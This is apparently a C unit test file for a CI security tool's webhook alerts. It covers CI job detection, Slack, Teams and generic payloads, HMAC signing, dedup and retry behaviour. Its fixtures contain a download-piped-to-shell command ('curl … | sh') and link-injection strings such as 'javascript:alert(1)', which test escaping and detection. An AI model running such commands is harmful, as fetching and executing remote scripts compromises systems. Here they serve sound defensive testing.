// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Webhook alerts: CI job detection, payload shapes (parsed back with
 * json-c), the HMAC signature, the dedup window, and the sender end to end
 * against a small HTTP server on loopback (retries, 4xx, down, hanging,
 * queue full, drain deadline). No root, no network beyond 127.0.0.1.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>
#include <json-c/json.h>
#include "alerts/alerts.h"
#include "alerts/alerts_internal.h"
#include "lib/ci_env.h"
#include "http_test_server.h"
#include "lib/log.h"

/* ---- helpers ---- */

static const char *const CI_VARS[] = {
	"GITHUB_ACTIONS", "GITHUB_REPOSITORY", "GITHUB_RUN_ID", "GITHUB_RUN_ATTEMPT",
	"GITHUB_SERVER_URL", "GITHUB_WORKFLOW", "GITHUB_JOB", "GITLAB_CI", "CI_PROJECT_PATH",
	"CI_PIPELINE_ID", "CI_JOB_ID", "CI_JOB_URL", "CI_JOB_NAME", "CI_PIPELINE_URL",
	"CI_PROJECT_URL", "JENKINS_URL", "JENKINS_HOME", "JOB_NAME", "JOB_BASE_NAME",
	"STAGE_NAME", "BUILD_NUMBER", "BUILD_URL", NULL,
};

static void clear_ci_env(void)
{
	for (const char *const *v = CI_VARS; *v; v++)
		unsetenv(*v);
}

static uint64_t mono_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static struct ci_job test_job(void)
{
	struct ci_job j;

	memset(&j, 0, sizeof(j));
	strcpy(j.provider, "github");
	strcpy(j.repository, "acme/widgets");
	strcpy(j.run_id, "4242");
	strcpy(j.attempt, "1");
	strcpy(j.job, "CI / build");
	strcpy(j.url, "https://github.com/acme/widgets/actions/runs/4242");
	strcpy(j.host, "runner-7");
	return j;
}

static const char *const ANC[] = { "100 bash -e script.sh", "101 make all", "102 sh -c curl x | sh" };

#define VERDICT_JSON "{\"seq\":7,\"type\":\"verdict\",\"rule\":\"curl-pipe-sh\",\"argv\":[\"a\\udc80b\"]}\n"

static struct alert test_alert(const char *rule, const char *exe)
{
	return (struct alert){
		.rule = rule, .severity = "high", .description = "download piped to a shell",
		.action = "alert", .blocked = false,
		.cmdline = "curl -s https://x.example/i.sh | sh && echo `id` <b>&",
		.ancestry = ANC, .n_ancestry = 3, .exe = exe, .pid = 4321,
		.verdict_json = VERDICT_JSON, .time_ns_realtime = 1700000000ULL * 1000000000ULL,
	};
}

static struct json_object *parse(const char *s)
{
	struct json_object *o = json_tokener_parse(s);

	assert_non_null(o);
	return o;
}

static struct json_object *get(struct json_object *o, const char *path)
{
	/* dotted path; numbers index arrays */
	char buf[256], *tok, *save = NULL;

	snprintf(buf, sizeof(buf), "%s", path);
	for (tok = strtok_r(buf, ".", &save); tok && o; tok = strtok_r(NULL, ".", &save)) {
		if (json_object_is_type(o, json_type_array))
			o = json_object_array_get_idx(o, (size_t)atoi(tok));
		else if (!json_object_object_get_ex(o, tok, &o))
			o = NULL;
	}
	if (!o)
		fail_msg("no %s in the payload", path);
	return o;
}

static const char *str_at(struct json_object *o, const char *path)
{
	return json_object_get_string(get(o, path));
}

/* Every Slack section/header text, concatenated. */
static void slack_texts(struct json_object *root, char *out, size_t size)
{
	struct json_object *blocks = get(root, "blocks"), *b, *t, *fields;
	size_t i, k;

	out[0] = '\0';
	for (i = 0; i < json_object_array_length(blocks); i++) {
		b = json_object_array_get_idx(blocks, i);
		if (json_object_object_get_ex(b, "text", &t))
			strncat(out, str_at(t, "text"), size - strlen(out) - 1);
		if (json_object_object_get_ex(b, "fields", &fields))
			for (k = 0; k < json_object_array_length(fields); k++)
				strncat(out, str_at(json_object_array_get_idx(fields, k), "text"),
					size - strlen(out) - 1);
		strncat(out, "\n", size - strlen(out) - 1);
	}
}

/* ---- formats, ci_env ---- */

static void test_parse_format(void **state)
{
	enum alert_format f;

	assert_int_equal(alerts_parse_format("slack", &f), 0);
	assert_int_equal(f, ALERT_FMT_SLACK);
	assert_int_equal(alerts_parse_format("teams", &f), 0);
	assert_int_equal(f, ALERT_FMT_TEAMS);
	assert_int_equal(alerts_parse_format("generic", &f), 0);
	assert_int_equal(f, ALERT_FMT_GENERIC);
	assert_int_equal(alerts_parse_format("Slack", &f), -EINVAL);
	assert_int_equal(alerts_parse_format("", &f), -EINVAL);
	assert_int_equal(alerts_parse_format(NULL, &f), -EINVAL);
	assert_string_equal(alerts_format_name(ALERT_FMT_TEAMS), "teams");
}

static void test_ci_github(void **state)
{
	struct ci_job j;

	clear_ci_env();
	setenv("GITHUB_ACTIONS", "true", 1);
	setenv("GITHUB_REPOSITORY", "acme/widgets", 1);
	setenv("GITHUB_RUN_ID", "987654321", 1);
	setenv("GITHUB_RUN_ATTEMPT", "2", 1);
	setenv("GITHUB_WORKFLOW", "CI", 1);
	setenv("GITHUB_JOB", "build", 1);
	ci_env_detect(&j);
	assert_string_equal(j.provider, "github");
	assert_string_equal(j.repository, "acme/widgets");
	assert_string_equal(j.run_id, "987654321");
	assert_string_equal(j.attempt, "2");
	assert_string_equal(j.job, "CI / build");
	assert_string_equal(j.url, "https://github.com/acme/widgets/actions/runs/987654321");
	assert_true(j.host[0] != '\0');
	assert_string_equal(ci_env_provider_title(&j), "GitHub Actions");

	setenv("GITHUB_SERVER_URL", "https://ghe.example.com/", 1);
	ci_env_detect(&j);
	assert_string_equal(j.url, "https://ghe.example.com/acme/widgets/actions/runs/987654321");
	/* a server URL that would break a chat link gives no link at all */
	setenv("GITHUB_SERVER_URL", "https://evil.example|click here", 1);
	ci_env_detect(&j);
	assert_string_equal(j.url, "");
	setenv("GITHUB_SERVER_URL", "javascript:alert(1)", 1);
	ci_env_detect(&j);
	assert_string_equal(j.url, "");
	/* GITHUB_ACTIONS must be "true" */
	setenv("GITHUB_ACTIONS", "false", 1);
	ci_env_detect(&j);
	assert_string_equal(j.provider, "local");
	clear_ci_env();
}

/* The daemon reads a job root's environment, not its own. */
static void test_ci_from_block(void **state)
{
	static const char block[] = "PATH=/bin\0GITLAB_CI=true\0CI_PROJECT_PATH=grp/proj\0"
				    "CI_PIPELINE_ID=12\0CI_JOB_NAME=build\0CI_JOB_ID=34\0"
				    "CI_PROJECT_URL=https://gitlab.example/grp/proj";
	struct ci_job j;

	(void)state;
	clear_ci_env();
	setenv("GITHUB_ACTIONS", "true", 1); /* ours, which must not count */
	ci_env_detect_from(block, sizeof(block), &j);
	assert_string_equal(j.provider, "gitlab");
	assert_string_equal(j.repository, "grp/proj");
	assert_string_equal(j.run_id, "12");
	assert_string_equal(j.url, "https://gitlab.example/grp/proj/-/jobs/34");
	/* a prefix of a name is not the name; no terminating NUL: nothing read */
	ci_env_detect_from("GITLAB_CI_X=true", sizeof("GITLAB_CI_X=true"), &j);
	assert_string_equal(j.provider, "local");
	ci_env_detect_from(block, sizeof(block) - 1, &j);
	assert_string_equal(j.provider, "local");
	ci_env_detect_from(NULL, 0, &j);
	assert_string_equal(j.provider, "local");
	/* and our own environment is back afterwards */
	ci_env_detect(&j);
	assert_string_equal(j.provider, "github");
	clear_ci_env();
}

static void test_ci_gitlab_jenkins_local(void **state)
{
	struct ci_job j;
	char longname[600];

	clear_ci_env();
	setenv("GITLAB_CI", "true", 1);
	setenv("CI_PROJECT_PATH", "group/sub/proj", 1);
	setenv("CI_PIPELINE_ID", "555", 1);
	setenv("CI_JOB_ID", "777", 1);
	setenv("CI_JOB_NAME", "test:unit", 1);
	setenv("CI_JOB_URL", "https://gitlab.example.com/group/sub/proj/-/jobs/777", 1);
	ci_env_detect(&j);
	assert_string_equal(j.provider, "gitlab");
	assert_string_equal(j.repository, "group/sub/proj");
	assert_string_equal(j.run_id, "555");
	assert_string_equal(j.job, "test:unit");
	assert_string_equal(j.url, "https://gitlab.example.com/group/sub/proj/-/jobs/777");
	unsetenv("CI_JOB_URL");
	setenv("CI_PROJECT_URL", "https://gitlab.example.com/group/sub/proj", 1);
	ci_env_detect(&j);
	assert_string_equal(j.url, "https://gitlab.example.com/group/sub/proj/-/jobs/777");

	clear_ci_env();
	setenv("JENKINS_URL", "https://ci.example.com/", 1);
	setenv("JOB_NAME", "folder/app/main", 1);
	setenv("JOB_BASE_NAME", "main", 1);
	setenv("BUILD_NUMBER", "31", 1);
	setenv("BUILD_URL", "https://ci.example.com/job/folder/job/app/job/main/31/", 1);
	ci_env_detect(&j);
	assert_string_equal(j.provider, "jenkins");
	assert_string_equal(j.repository, "folder/app/main");
	assert_string_equal(j.run_id, "31");
	assert_string_equal(j.job, "main");
	assert_string_equal(j.url, "https://ci.example.com/job/folder/job/app/job/main/31/");
	setenv("STAGE_NAME", "Build", 1);
	ci_env_detect(&j);
	assert_string_equal(j.job, "Build");

	/* too long: cut on a character boundary, no overflow */
	memset(longname, 'x', sizeof(longname) - 1);
	longname[sizeof(longname) - 1] = '\0';
	memcpy(longname + 254, "\xc3\xa9", 2); /* straddles the 255-byte limit */
	setenv("JOB_NAME", longname, 1);
	ci_env_detect(&j);
	assert_int_equal(strlen(j.repository), 254);

	clear_ci_env();
	ci_env_detect(&j);
	assert_string_equal(j.provider, "local");
	assert_string_equal(j.repository, "");
	assert_string_equal(j.url, "");
	assert_string_equal(ci_env_provider_title(&j), "local");
}

/* ---- HMAC ---- */

static void test_hmac_vectors(void **state)
{
	char hex[65];

	/* RFC 4231 test case 2 */
	assert_int_equal(alert_hmac_sha256_hex("Jefe", "what do ya want for nothing?", 28, hex), 0);
	assert_string_equal(hex, "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
	/* printf '{"a":1}' | openssl dgst -sha256 -hmac s3cret-key */
	assert_int_equal(alert_hmac_sha256_hex("s3cret-key", "{\"a\":1}", 7, hex), 0);
	assert_string_equal(hex, "169d7e505376f878e245391f706b07a7c9de0b2d84cfc526bb64da7aaee88324");
}

/* ---- payloads ---- */

static struct alert_msg *msg_of(const struct alert *al)
{
	struct alert_msg *m = alert_msg_copy(al);

	assert_non_null(m);
	return m;
}

static void test_slack_payload(void **state)
{
	struct ci_job job = test_job();
	struct alert al = test_alert("curl-pipe-sh", "/usr/bin/curl");
	struct alert_msg *m = msg_of(&al);
	struct json_object *o, *blocks;
	char *body, all[8192];

	body = alert_payload(ALERT_FMT_SLACK, m, &job);
	assert_non_null(body);
	o = parse(body);
	assert_non_null(strstr(str_at(o, "text"), "[HIGH] curl-pipe-sh"));
	assert_non_null(strstr(str_at(o, "text"), "acme/widgets run 4242"));
	blocks = get(o, "blocks");
	assert_true(json_object_array_length(blocks) >= 5);
	assert_string_equal(str_at(o, "blocks.0.type"), "header");
	assert_string_equal(str_at(o, "blocks.0.text.type"), "plain_text");
	assert_string_equal(str_at(o, "blocks.0.text.text"), "HIGH \xc2\xb7 curl-pipe-sh");
	slack_texts(o, all, sizeof(all));
	/* command line in a code block, mrkdwn-escaped, backticks cannot close it */
	assert_non_null(strstr(all, "```curl -s https://x.example/i.sh | sh &amp;&amp; echo `\xe2\x80\x8bid`\xe2\x80\x8b &lt;b&gt;&amp;```"));
	assert_non_null(strstr(all, "100 bash -e script.sh\n  101 make all\n    102 sh -c curl x | sh"));
	assert_non_null(strstr(all, "<https://github.com/acme/widgets/actions/runs/4242|#4242>"));
	assert_non_null(strstr(all, "*Repository*\nacme/widgets"));
	assert_non_null(strstr(all, "*Host*\nrunner-7"));
	assert_non_null(strstr(all, "*CI*\nGitHub Actions"));
	assert_non_null(strstr(body, "\"type\":\"context\""));
	assert_non_null(strstr(body, "2023-11-14T22:13:20Z"));
	json_object_put(o);
	free(body);

	/* a summary says how many more */
	m->more = 2;
	m->window_ms = 60000;
	body = alert_payload(ALERT_FMT_SLACK, m, &job);
	o = parse(body);
	assert_non_null(strstr(str_at(o, "text"), "2 more in 60 s"));
	slack_texts(o, all, sizeof(all));
	assert_non_null(strstr(all, "and 2 more* of this alert within 60 s"));
	json_object_put(o);
	free(body);
	alert_msg_free(m);
}

static void test_slack_limits_and_bad_bytes(void **state)
{
	struct ci_job job = test_job();
	static char cmd[20000];
	const char *anc[40];
	char lines[40][32];
	struct alert al = test_alert("r", "/bin/x\xff");
	struct alert_msg *m;
	struct json_object *o, *blocks, *b;
	char *body;
	size_t i;

	memset(cmd, 'A', sizeof(cmd) - 1);
	al.cmdline = cmd;
	for (i = 0; i < 40; i++) {
		snprintf(lines[i], sizeof(lines[i]), "%zu proc-%zu", 100 + i, i);
		anc[i] = lines[i];
	}
	al.ancestry = anc;
	al.n_ancestry = 40;
	al.verdict_json = NULL;
	m = msg_of(&al);
	assert_int_equal(strlen(m->cmdline), ALERT_CMDLINE_MAX); /* capped at copy: 4093 + "…" */
	assert_string_equal(m->exe, "/bin/x\xef\xbf\xbd");
	body = alert_payload(ALERT_FMT_SLACK, m, &job);
	o = parse(body);
	blocks = get(o, "blocks");
	for (i = 0; i < json_object_array_length(blocks); i++) {
		struct json_object *t;

		b = json_object_array_get_idx(blocks, i);
		if (json_object_object_get_ex(b, "text", &t))
			assert_true(strlen(str_at(t, "text")) <= 3000);
	}
	assert_non_null(strstr(body, "more\\n"));          /* folded ancestry */
	assert_non_null(strstr(body, "139 proc-39"));        /* the nearest parent kept */
	json_object_put(o);
	free(body);
	alert_msg_free(m);
}

static void test_teams_payload(void **state)
{
	struct ci_job job = test_job();
	struct alert al = test_alert("curl-pipe-sh", "/usr/bin/curl");
	struct alert_msg *m = msg_of(&al);
	struct json_object *o, *card, *body, *facts, *b;
	char *s;
	size_t i;
	bool cmd_seen = false, anc_seen = false;

	s = alert_payload(ALERT_FMT_TEAMS, m, &job);
	assert_non_null(s);
	o = parse(s);
	assert_string_equal(str_at(o, "type"), "message");
	assert_int_equal(json_object_array_length(get(o, "attachments")), 1);
	assert_string_equal(str_at(o, "attachments.0.contentType"),
			    "application/vnd.microsoft.card.adaptive");
	card = get(o, "attachments.0.content");
	assert_string_equal(str_at(card, "type"), "AdaptiveCard");
	assert_string_equal(str_at(card, "version"), "1.4");
	body = get(card, "body");
	assert_string_equal(str_at(body, "0.type"), "TextBlock");
	assert_string_equal(str_at(body, "0.text"), "HIGH \xc2\xb7 curl-pipe-sh");
	assert_string_equal(str_at(body, "0.color"), "Attention");
	facts = NULL;
	for (i = 0; i < json_object_array_length(body); i++) {
		b = json_object_array_get_idx(body, i);
		if (!strcmp(str_at(b, "type"), "FactSet"))
			facts = get(b, "facts");
		if (!strcmp(str_at(b, "type"), "RichTextBlock")) {
			const char *t = str_at(b, "inlines.0.text");

			assert_string_equal(str_at(b, "inlines.0.type"), "TextRun");
			cmd_seen |= !strcmp(t, "curl -s https://x.example/i.sh | sh && echo `id` <b>&");
			anc_seen |= !strcmp(t, "    102 sh -c curl x | sh");
		}
	}
	assert_true(cmd_seen);
	assert_true(anc_seen);
	assert_non_null(facts);
	assert_non_null(strstr(json_object_to_json_string(facts), "\"Repository\""));
	assert_non_null(strstr(json_object_to_json_string(facts), "acme\\/widgets"));
	assert_non_null(strstr(json_object_to_json_string(facts), "runner-7"));
	assert_string_equal(str_at(card, "actions.0.type"), "Action.OpenUrl");
	assert_string_equal(str_at(card, "actions.0.url"), job.url);
	json_object_put(o);
	free(s);
	alert_msg_free(m);
}

static void test_generic_payload(void **state)
{
	struct ci_job job = test_job();
	struct alert al = test_alert("curl-pipe-sh", "/usr/bin/curl");
	struct alert_msg *m = msg_of(&al);
	struct json_object *o;
	char *s;

	s = alert_payload(ALERT_FMT_GENERIC, m, &job);
	assert_non_null(s);
	/* the record is spliced byte for byte (its \udc80 escape kept), newline trimmed */
	assert_non_null(strstr(s, ",\"verdict\":{\"seq\":7,\"type\":\"verdict\",\"rule\":\"curl-pipe-sh\",\"argv\":[\"a\\udc80b\"]}}"));
	assert_null(strchr(s, '\n'));
	o = parse(s);
	assert_string_equal(str_at(o, "source"), "buildwarden");
	assert_string_equal(str_at(o, "kind"), "alert");
	assert_int_equal(json_object_get_int64(get(o, "count")), 1);
	assert_string_equal(str_at(o, "host"), "runner-7");
	assert_string_equal(str_at(o, "job.provider"), "github");
	assert_string_equal(str_at(o, "job.repository"), "acme/widgets");
	assert_string_equal(str_at(o, "job.run_id"), "4242");
	assert_string_equal(str_at(o, "job.url"), job.url);
	assert_string_equal(str_at(o, "verdict.rule"), "curl-pipe-sh");
	json_object_put(o);
	free(s);
	alert_msg_free(m);

	/* not a JSON object: the essentials instead, flagged */
	al.verdict_json = "{\"seq\":7, broken";
	m = msg_of(&al);
	assert_null(m->verdict_json);
	m->more = 5;
	m->window_ms = 1000;
	s = alert_payload(ALERT_FMT_GENERIC, m, &job);
	o = parse(s);
	assert_string_equal(str_at(o, "kind"), "summary");
	assert_int_equal(json_object_get_int64(get(o, "count")), 5);
	assert_int_equal(json_object_get_int64(get(o, "window_ms")), 1000);
	assert_string_equal(str_at(o, "verdict.rule"), "curl-pipe-sh");
	assert_true(json_object_get_boolean(get(o, "verdict.record_omitted")));
	assert_string_equal(str_at(o, "verdict.exe"), "/usr/bin/curl");
	json_object_put(o);
	free(s);
	alert_msg_free(m);
	al.verdict_json = "[1,2]"; /* not an object */
	m = msg_of(&al);
	assert_null(m->verdict_json);
	alert_msg_free(m);
}

/* ---- dedup ---- */

static void test_dedup_window(void **state)
{
	struct dedup d;
	struct alert al = test_alert("r1", "/bin/true");
	struct alert_msg *m, *s;
	uint64_t next;

	dedup_init(&d, 1000);
	/* first: not merged, window opens */
	m = msg_of(&al);
	assert_false(dedup_merge(&d, "r1", "/bin/true", 0, &m));
	assert_int_equal(dedup_open(&d, "r1", "/bin/true", 0), 0);
	alert_msg_free(m);
	/* second and third inside: merged, the latest kept */
	m = msg_of(&al);
	assert_true(dedup_merge(&d, "r1", "/bin/true", 10, &m));
	assert_null(m);
	al.pid = 5;
	m = msg_of(&al);
	assert_true(dedup_merge(&d, "r1", "/bin/true", 20, &m));
	/* another exe or rule: its own window */
	m = msg_of(&al);
	assert_false(dedup_merge(&d, "r1", "/bin/false", 30, &m));
	assert_false(dedup_merge(&d, "r2", "/bin/true", 30, &m));
	alert_msg_free(m);
	assert_int_equal(dedup_pending(&d), 1);
	/* nothing due before the window ends */
	assert_null(dedup_take_due(&d, 999, false, &next));
	assert_int_equal(next, 1000);
	s = dedup_take_due(&d, 1000, false, &next);
	assert_non_null(s);
	assert_int_equal(s->more, 2);
	assert_int_equal(s->window_ms, 1000);
	assert_int_equal(s->pid, 5);
	alert_msg_free(s);
	assert_int_equal(dedup_pending(&d), 0);
	/* the window restarted at 1000: an alert at 1500 is still merged */
	m = msg_of(&al);
	assert_true(dedup_merge(&d, "r1", "/bin/true", 1500, &m));
	s = dedup_take_due(&d, 2000, false, NULL);
	assert_non_null(s);
	assert_int_equal(s->more, 1);
	alert_msg_free(s);
	/* a window that ends empty is forgotten */
	assert_null(dedup_take_due(&d, 3000, false, &next));
	assert_int_equal(next, UINT64_MAX);
	assert_int_equal(d.n, 0);
	/* after it: sent on its own again */
	m = msg_of(&al);
	assert_false(dedup_merge(&d, "r1", "/bin/true", 3001, &m));
	alert_msg_free(m);
	dedup_free(&d);
}

static void test_dedup_finish_and_expired(void **state)
{
	struct dedup d;
	struct alert al = test_alert("r1", "/bin/true");
	struct alert_msg *m, *s;
	int i, n = 0;

	dedup_init(&d, 60000);
	for (i = 0; i < 3; i++) {
		char exe[16];

		snprintf(exe, sizeof(exe), "/bin/e%d", i);
		assert_int_equal(dedup_open(&d, "r", exe, 0), 0);
		m = msg_of(&al);
		assert_true(dedup_merge(&d, "r", exe, 1, &m));
	}
	/* an entry past its end with nothing merged renews, alert goes alone */
	assert_int_equal(dedup_open(&d, "q", "/x", 0), 0);
	m = msg_of(&al);
	assert_false(dedup_merge(&d, "q", "/x", 70000, &m));
	alert_msg_free(m);
	/* finish: every pending summary at once, none early */
	while ((s = dedup_take_due(&d, 2, true, NULL))) {
		assert_int_equal(s->more, 1);
		alert_msg_free(s);
		n++;
	}
	assert_int_equal(n, 3);
	assert_int_equal(d.n, 0);
	dedup_free(&d);

	/* table full: -ENOSPC, the caller just does not dedup */
	dedup_init(&d, 1000);
	for (i = 0; i < DEDUP_MAX_ENTRIES; i++) {
		char exe[24];

		snprintf(exe, sizeof(exe), "/bin/%d", i);
		assert_int_equal(dedup_open(&d, "r", exe, 0), 0);
	}
	assert_int_equal(dedup_open(&d, "r", "/one/more", 0), -ENOSPC);
	dedup_free(&d);
	/* window 0 would mean "default" in the config; in the table it disables */
	dedup_init(&d, 0);
	assert_int_equal(dedup_open(&d, "r", "/x", 0), 0);
	m = msg_of(&al);
	assert_false(dedup_merge(&d, "r", "/x", 1, &m));
	alert_msg_free(m);
	dedup_free(&d);
}

/* ---- the sender, end to end against a loopback HTTP server ---- */

/* answers as a chat webhook might: a body that is not JSON, which the sender discards */
static const struct http_test_profile webhook = {
	.header = "X-Buildwarden-Signature",
	.body = "bad-ok",
};

static struct alerts *start_at(uint16_t port, enum alert_format f, const char *secret,
			       unsigned window_ms)
{
	char url[128];
	struct ci_job job = test_job();
	struct alert_config cfg = {
		.url = url, .format = f, .secret = secret, .timeout_ms = 1000,
		.max_attempts = 4, .queue_len = 8, .dedup_window_ms = window_ms,
	};
	struct alerts *a = NULL;

	snprintf(url, sizeof(url), "http://user:pw@127.0.0.1:%u/hooks/T000/B000/XXXXSECRETPATH", port);
	assert_int_equal(alerts_start(&a, &cfg, &job), 0);
	assert_non_null(a);
	return a;
}

static void test_send_sign_and_dedup(void **state)
{
	static const int script[] = { 200, 200 };
	struct http_test_server s;
	struct alerts *a;
	struct alert al = test_alert("curl-pipe-sh", "/usr/bin/curl");
	struct http_stats st;
	struct json_object *o;
	char want[80], hex[65];
	int i;

	http_test_server_start(&s, &webhook, script, 2, NULL);
	a = start_at(s.port, ALERT_FMT_GENERIC, "s3cret-key", 60000);
	for (i = 0; i < 3; i++) {
		al.pid = 100 + (uint32_t)i;
		alerts_submit(a, &al);
	}
	alerts_finish(a, 5000, &st);
	assert_int_equal(st.submitted, 3);
	assert_int_equal(st.sent, 2);  /* the first, then "and 2 more" at finish */
	assert_int_equal(st.merged, 2);
	assert_int_equal(st.failed, 0);
	assert_int_equal(st.dropped, 0);
	assert_int_equal(st.retries, 0);
	http_test_server_stop(&s);
	assert_int_equal(s.n, 2);
	for (i = 0; i < 2; i++) {
		assert_int_equal(alert_hmac_sha256_hex("s3cret-key", s.req[i].body,
						       strlen(s.req[i].body), hex), 0);
		snprintf(want, sizeof(want), "sha256=%s", hex);
		assert_string_equal(s.req[i].header, want);
		assert_string_equal(s.req[i].user_agent, "buildwarden/0.1");
	}
	o = parse(s.req[0].body);
	assert_string_equal(str_at(o, "kind"), "alert");
	json_object_put(o);
	o = parse(s.req[1].body);
	assert_string_equal(str_at(o, "kind"), "summary");
	assert_int_equal(json_object_get_int64(get(o, "count")), 2);
	json_object_put(o);
	http_test_server_free(&s);
}

/* The daemon's alerts name their jobs: one job's repeats fold, two jobs' do not. */
static void test_dedup_per_job(void **state)
{
	static const int script[] = { 200, 200, 200 };
	struct http_test_server s;
	struct alerts *a;
	struct ci_job ja = test_job(), jb = test_job();
	struct alert al = test_alert("r", "/bin/true");
	struct http_stats st;

	(void)state;
	strcpy(ja.job, "job-a");
	strcpy(ja.repository, "acme/a");
	strcpy(jb.job, "job-b");
	strcpy(jb.repository, "acme/b");
	http_test_server_start(&s, &webhook, script, 3, NULL);
	a = start_at(s.port, ALERT_FMT_GENERIC, NULL, 60000);
	al.job = &ja;
	alerts_submit(a, &al);
	alerts_submit(a, &al); /* the same job again: folded */
	al.job = &jb;
	alerts_submit(a, &al); /* another job: its own message */
	alerts_finish(a, 3000, &st);
	assert_int_equal(st.merged, 1);
	http_test_server_stop(&s);
	/* job-a's first alert, job-b's alert, then job-a's summary at the end */
	assert_int_equal(http_test_server_count(&s), 3);
	assert_non_null(strstr(s.req[0].body, "\"acme/a\""));
	assert_non_null(strstr(s.req[1].body, "\"acme/b\""));
	assert_non_null(strstr(s.req[2].body, "\"acme/a\""));
	http_test_server_free(&s);
}

static void test_summary_at_window_end(void **state)
{
	static const int script[] = { 200 };
	struct http_test_server s;
	struct alerts *a;
	struct alert al = test_alert("r", "/bin/true");
	struct http_stats st;
	uint64_t t0;
	int i;

	http_test_server_start(&s, &webhook, script, 1, NULL);
	a = start_at(s.port, ALERT_FMT_SLACK, NULL, 300);
	t0 = mono_ms();
	alerts_submit(a, &al);
	alerts_submit(a, &al);
	http_test_server_wait(&s, 2, 5000);
	assert_int_equal(http_test_server_count(&s), 2); /* the summary went at window end, not at finish */
	/* The server counts a request before it answers: give the sender its reply. */
	for (i = 0; i < 500; i++) {
		alerts_stats(a, &st);
		if (st.sent == 2)
			break;
		poll(NULL, 0, 10);
	}
	assert_int_equal(st.sent, 2);
	alerts_finish(a, 1000, &st);
	assert_int_equal(st.sent, 2);
	assert_int_equal(st.merged, 1);
	http_test_server_stop(&s);
	/* Measured from the submit: the first request may go out late on a
	 * loaded host, the summary never before the window ends. */
	assert_true(s.req[1].at_ms >= t0 + 290);
	assert_string_equal(s.req[0].header, ""); /* slack: never signed */
	http_test_server_free(&s);
}

static void test_retry_then_ok(void **state)
{
	static const int script[] = { 500, 429, 200 };
	struct http_test_server s;
	struct alerts *a;
	struct alert al = test_alert("r", "/bin/true");
	struct http_stats st;

	http_test_server_start(&s, &webhook, script, 3, "1");
	a = start_at(s.port, ALERT_FMT_TEAMS, NULL, 1000);
	alerts_submit(a, &al);
	alerts_finish(a, 8000, &st);
	http_test_server_stop(&s);
	assert_int_equal(s.n, 3);
	assert_int_equal(st.sent, 1);
	assert_int_equal(st.retries, 2);
	assert_int_equal(st.failed, 0);
	assert_true(s.req[1].at_ms - s.req[0].at_ms >= 900);  /* Retry-After 1 s beats the 250 ms backoff */
	assert_true(s.req[2].at_ms - s.req[1].at_ms >= 900);  /* Retry-After: 1 */
	http_test_server_free(&s);
}

static void test_4xx_no_retry(void **state)
{
	static const int script[] = { 400, 404 };
	struct http_test_server s;
	struct alerts *a;
	struct alert al = test_alert("r", "/bin/true");
	struct http_stats st;

	http_test_server_start(&s, &webhook, script, 2, NULL);
	a = start_at(s.port, ALERT_FMT_SLACK, NULL, 1000);
	alerts_submit(a, &al);
	alerts_finish(a, 5000, &st);
	http_test_server_stop(&s);
	assert_int_equal(s.n, 1);
	assert_int_equal(st.failed, 1);
	assert_int_equal(st.sent, 0);
	assert_int_equal(st.retries, 0);
	http_test_server_free(&s);
}

static void test_receiver_down(void **state)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t sl = sizeof(sa);
	struct alerts *a;
	struct alert al = test_alert("r", "/bin/true");
	struct http_stats st;
	uint64_t t0;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	/* a port nobody listens on: bound, then closed */
	assert_int_equal(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(getsockname(fd, (struct sockaddr *)&sa, &sl), 0);
	close(fd);
	a = start_at(ntohs(sa.sin_port), ALERT_FMT_GENERIC, NULL, 1000);
	t0 = mono_ms();
	alerts_submit(a, &al);
	alerts_finish(a, 10000, &st);
	assert_true(mono_ms() - t0 < 4000); /* 250 + 500 + 1000 ms of backoff */
	assert_int_equal(st.failed, 1);
	assert_int_equal(st.retries, 3);
	assert_int_equal(st.sent, 0);
}

static void test_hanging_receiver_bounded(void **state)
{
	static const int script[] = { HTTP_TEST_HANG, HTTP_TEST_HANG, HTTP_TEST_HANG, HTTP_TEST_HANG,
				      HTTP_TEST_HANG, HTTP_TEST_HANG };
	struct http_test_server s;
	struct alerts *a;
	struct alert al;
	struct http_stats st;
	uint64_t t0, t;
	int i;
	char rule[8];

	http_test_server_start(&s, &webhook, script, 6, NULL);
	a = start_at(s.port, ALERT_FMT_SLACK, NULL, 1000);
	/* 8 distinct alerts into a queue of 8 while the first hangs; 2 more dropped */
	t0 = mono_ms();
	for (i = 0; i < 10; i++) {
		snprintf(rule, sizeof(rule), "r%d", i);
		al = test_alert(rule, "/bin/true");
		alerts_submit(a, &al);
	}
	assert_true(mono_ms() - t0 < 200); /* submitting never waits for the network */
	usleep(200000);
	t0 = mono_ms();
	alerts_finish(a, 1500, &st);
	t = mono_ms() - t0;
	http_test_server_stop(&s);
	assert_true(t < 1500 + 1200); /* the in-flight request is cut at the deadline */
	assert_int_equal(st.submitted, 10);
	assert_int_equal(st.sent, 0);
	assert_true(st.dropped >= 2);
	assert_int_equal(st.sent + st.failed + st.dropped, 10);
	http_test_server_free(&s);
}

static void test_bad_config(void **state)
{
	struct ci_job job = test_job();
	struct alerts *a = (struct alerts *)&job;
	struct alert_config cfg = { .url = "ftp://example.com/x", .format = ALERT_FMT_SLACK };

	assert_int_equal(alerts_start(&a, &cfg, &job), -EINVAL);
	assert_null(a);
	cfg.url = "not a url at all";
	assert_int_equal(alerts_start(&a, &cfg, &job), -EINVAL);
	cfg.url = NULL;
	assert_int_equal(alerts_start(&a, &cfg, &job), -EINVAL);
	alerts_finish(NULL, 0, NULL); /* NULL-safe */
	alerts_submit(NULL, NULL);
}

static void test_load_secret(void **state)
{
	char path[] = "/tmp/bw-test-secret-XXXXXX";
	char *sec = NULL;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, "topsecret\r\nsecond line\n", 23), 23);
	close(fd);
	assert_int_equal(alerts_load_secret(path, &sec), 0);
